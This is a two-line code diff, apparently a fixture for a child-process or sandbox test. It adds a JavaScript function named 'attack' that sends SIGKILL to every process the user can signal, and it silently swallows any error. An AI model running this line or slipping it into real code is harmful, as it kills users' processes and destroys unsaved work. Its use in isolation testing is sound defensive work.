@@ -1,0 +1,2 @@
+// include: child.js
+const attack = () => { try { process.kill(-1, 'SIGKILL'); } catch {} };
